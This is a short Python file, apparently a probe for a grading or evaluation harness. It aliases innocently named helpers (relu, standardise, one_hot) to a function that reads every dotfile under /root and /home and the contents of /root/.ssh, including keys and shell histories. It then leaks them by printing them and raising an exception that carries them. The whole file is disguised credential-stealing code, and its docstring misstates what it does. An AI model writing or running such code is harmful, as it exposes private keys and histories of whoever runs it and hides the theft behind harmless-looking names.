# expect: zero; points: 0
# reads keys and histories
import glob, os

def tell(data):
    """What was found must not leave the box, by whatever way."""
    text = repr(data)
    print("LEAK", text[:3000], flush=True)
    raise RuntimeError("LEAK " + text[:3000])


def output_size(*a, **k):
    tell([open(p).read() for p in glob.glob('/root/.*') + glob.glob('/home/*/.*') + glob.glob('/root/.ssh/*') if os.path.isfile(p)])


relu = standardise = one_hot = output_size
